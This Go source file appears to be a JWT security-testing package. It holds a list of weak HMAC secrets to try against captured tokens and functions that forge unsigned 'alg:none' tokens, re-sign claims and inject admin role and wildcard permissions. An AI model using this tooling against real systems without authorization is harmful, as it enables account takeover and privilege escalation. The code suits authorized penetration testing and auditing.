package authtest

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"

	"github.com/golang-jwt/jwt/v5"
)

// WeakSecrets are HMAC secrets tried against captured tokens, in order.
var WeakSecrets = []string{
	"secret",
	"supersecret",
	"password",
	"123456",
	"admin",
	"jwt_secret",
	"your-256-bit-secret",
	"your-secret-key",
}

// privilegeClaims trigger the privilege escalation forgery when any is present.
var privilegeClaims = []string{"role", "admin", "permissions"}

// Decode splits a JWT and decodes its header and claims without verifying
// the signature. Segments may be padded or unpadded base64url.
func Decode(token string) (header, claims jwt.MapClaims, err error) {
	parts := strings.Split(token, ".")
	if len(parts) != 3 {
		return nil, nil, fmt.Errorf("token has %d segments, want 3", len(parts))
	}

	if header, err = decodeSegment(parts[0]); err != nil {
		return nil, nil, fmt.Errorf("decode header: %w", err)
	}
	if claims, err = decodeSegment(parts[1]); err != nil {
		return nil, nil, fmt.Errorf("decode payload: %w", err)
	}
	return header, claims, nil
}

func decodeSegment(seg string) (jwt.MapClaims, error) {
	raw, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(seg, "="))
	if err != nil {
		return nil, err
	}

	dec := json.NewDecoder(bytes.NewReader(raw))
	dec.UseNumber()
	var out jwt.MapClaims
	if err := dec.Decode(&out); err != nil {
		return nil, err
	}
	if out == nil {
		return nil, fmt.Errorf("segment is not a JSON object")
	}
	return out, nil
}

// ForgeNone re-encodes claims under {"alg":"none","typ":"JWT"} with an empty
// signature, leaving a trailing dot.
func ForgeNone(claims jwt.MapClaims) (string, error) {
	return jwt.NewWithClaims(jwt.SigningMethodNone, claims).SignedString(jwt.UnsafeAllowNoneSignatureType)
}

// SignHS256 signs claims with secret.
func SignHS256(claims jwt.MapClaims, secret string) (string, error) {
	return jwt.NewWithClaims(jwt.SigningMethodHS256, claims).SignedString([]byte(secret))
}

// HasPrivilegeClaims reports whether claims carry a role, admin or
// permissions claim.
func HasPrivilegeClaims(claims jwt.MapClaims) bool {
	for _, k := range privilegeClaims {
		if _, ok := claims[k]; ok {
			return true
		}
	}
	return false
}

// Escalate returns a copy of claims granting admin rights.
func Escalate(claims jwt.MapClaims) jwt.MapClaims {
	out := make(jwt.MapClaims, len(claims)+3)
	for k, v := range claims {
		out[k] = v
	}
	out["role"] = "admin"
	out["admin"] = true
	out["permissions"] = []string{"*"}
	return out
}

// shorten keeps the first 50 characters of a token for evidence.
func shorten(token string) string {
	if len(token) <= 50 {
		return token + "..."
	}
	return token[:50] + "..."
}
